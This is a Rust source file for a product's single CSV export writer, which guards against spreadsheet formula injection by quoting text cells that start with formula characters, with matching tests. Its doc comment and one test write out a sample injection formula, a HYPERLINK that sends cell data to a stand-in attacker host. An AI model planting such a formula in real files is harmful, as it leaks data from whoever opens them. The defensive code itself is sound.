//! The one CSV writer of every file the product exports, safe to open in a spreadsheet.
//!
//! A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some a tab or a carriage
//! return) as a formula, so text people typed, such as `=HYPERLINK("http://evil.example/?"&A3)`
//! for a location, would run on the machine of the coordinator who opens the download. A text
//! cell that starts with one of those is written with a leading `'` (OWASP's advice): the
//! spreadsheet shows the text and runs nothing. Columns the product fills itself (numbers,
//! dates, codes, tokens) are written as they are, so a negative score stays a number; which
//! cells are text is said by the column, never guessed from the value.
//!
//! A file the product reads back (the HR export is the HR import format) undoes the quote with
//! [`restored`], which removes exactly the one the writer added: the two are inverse, so a
//! person called `-Smith` or `'=Jones` survives an export and re-import unchanged. (An HR
//! system's own `'=x` is read as `=x` too, which is what a spreadsheet showed for it.)
//!
//! Not written here: the matching engine's CSV (`tandem match solve --out`, `tandem match
//! arcs`), which is machine output for programs, of ids from a closed set (letters, digits and
//! `-_.:@/`, so no function call can be spelt) and numbers; a quote there would change the ids.

use std::borrow::Cow;

/// What a column holds, which decides how its cells are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Words people typed or imported (names, departments, reasons): neutralised.
    Text,
    /// What the product writes itself (numbers, dates, codes, tokens, ids): as it is.
    Value,
}

/// The first characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text` is a run of quotes (perhaps none) and then a formula character: the cells the
/// writer prefixes, so that [`restored`] can tell its own quote from one a person typed.
fn needs_quote(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// `text` as a cell a spreadsheet shows as text: with one `'` in front when it would otherwise
/// start a formula (or is quotes followed by one, so that [`restored`] is its exact inverse).
pub fn neutralised(text: &str) -> Cow<'_, str> {
    if needs_quote(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A text cell as read back: without the one `'` that [`neutralised`] put in front, and
/// unchanged otherwise.
pub fn restored(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

/// Writes a CSV file to memory: a header of column names, then rows whose text cells are
/// [`neutralised`].
#[derive(Debug)]
pub struct CsvWriter {
    writer: csv::Writer<Vec<u8>>,
    kinds: Vec<Kind>,
}

impl CsvWriter {
    /// A file whose header row names `columns`.
    pub fn new<'a>(columns: impl IntoIterator<Item = (&'a str, Kind)>) -> Self {
        Self::start(&[], columns)
    }

    /// A file whose first line carries the protective marking (`# OFFICIAL`), then the header.
    pub fn with_marking<'a>(
        marking: &str,
        columns: impl IntoIterator<Item = (&'a str, Kind)>,
    ) -> Self {
        Self::start(&[marking], columns)
    }

    /// A file whose first line carries the protective marking and whose second says what the
    /// figures cover (`# By scheme: 1 Dec 2025 to 30 Nov 2026`), then the header.
    pub fn with_marking_and_note<'a>(
        marking: &str,
        note: &str,
        columns: impl IntoIterator<Item = (&'a str, Kind)>,
    ) -> Self {
        Self::start(&[marking, note], columns)
    }

    fn start<'a>(comments: &[&str], columns: impl IntoIterator<Item = (&'a str, Kind)>) -> Self {
        let (names, kinds): (Vec<&str>, Vec<Kind>) = columns.into_iter().unzip();
        let mut file = Self {
            // Flexible only for the marking line, which is one cell; every row is checked
            // against the header in `row`.
            writer: csv::WriterBuilder::new()
                .flexible(true)
                .from_writer(Vec::new()),
            kinds,
        };
        for comment in comments {
            file.write([neutralised(&format!("# {comment}")).into_owned()]);
        }
        file.write(names.into_iter().map(neutralised));
        file
    }

    /// Writes one row: a cell per column, in the header's order.
    ///
    /// # Panics
    ///
    /// In debug builds, when the row does not have one cell per column (a mistake in the
    /// exporter, which its tests catch).
    pub fn row<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) {
        let cells: Vec<S> = cells.into_iter().collect();
        debug_assert_eq!(
            cells.len(),
            self.kinds.len(),
            "a row needs one cell per column"
        );
        let written: Vec<Cow<'_, str>> = cells
            .iter()
            .enumerate()
            .map(|(idx, cell)| match self.kinds.get(idx) {
                Some(Kind::Value) => Cow::Borrowed(cell.as_ref()),
                // A cell past the header is text: when in doubt, neutralise.
                Some(Kind::Text) | None => neutralised(cell.as_ref()),
            })
            .collect();
        self.write(written);
    }

    fn write<S: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = S>) {
        let cells: Vec<S> = cells.into_iter().collect();
        // Writing to memory cannot fail, so the result carries no information.
        let _ = self
            .writer
            .write_record(cells.iter().map(|cell| cell.as_ref().as_bytes()));
    }

    /// The file's bytes.
    pub fn finish(self) -> Vec<u8> {
        self.writer.into_inner().unwrap_or_default()
    }

    /// The file as text (it is UTF-8: every cell was).
    pub fn finish_text(self) -> String {
        String::from_utf8(self.finish()).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn text_that_would_start_a_formula_is_quoted() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")",
            ),
            ("+44 1642", "'+44 1642"),
            ("-Smith", "'-Smith"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("'=Jones", "''=Jones"),
            ("''-x", "'''-x"),
            ("O'Neill", "O'Neill"),
            ("'Neill", "'Neill"),
            ("'", "'"),
            ("Middlesbrough", "Middlesbrough"),
            ("a=b", "a=b"),
            (" =x", " =x"),
            ("", ""),
        ];
        for (text, cell) in cases {
            assert_eq!(neutralised(text), cell, "{text:?}");
            assert_eq!(restored(cell), text, "{cell:?}");
        }
    }

    #[test]
    fn value_columns_are_written_as_they_are() {
        let mut file =
            CsvWriter::with_marking("OFFICIAL", [("name", Kind::Text), ("score", Kind::Value)]);
        file.row(["=1+1", "-3"]);
        file.row(["Ann, \"Nan\"", "-0.5"]);
        assert_eq!(
            file.finish_text(),
            "# OFFICIAL\nname,score\n'=1+1,-3\n\"Ann, \"\"Nan\"\"\",-0.5\n"
        );
    }

    #[test]
    fn a_marking_cannot_smuggle_a_cell() {
        let file = CsvWriter::with_marking("OFFICIAL,=1+1", [("name", Kind::Text)]);
        assert_eq!(file.finish_text(), "\"# OFFICIAL,=1+1\"\nname\n");
    }

    proptest! {
        #[test]
        fn restored_undoes_neutralised(text in "['=+@\\t\\r a-z-]{0,6}") {
            let cell = neutralised(&text);
            prop_assert_eq!(restored(&cell), text.as_str());
            prop_assert!(!cell.starts_with(FORMULA_STARTS));
        }
    }
}
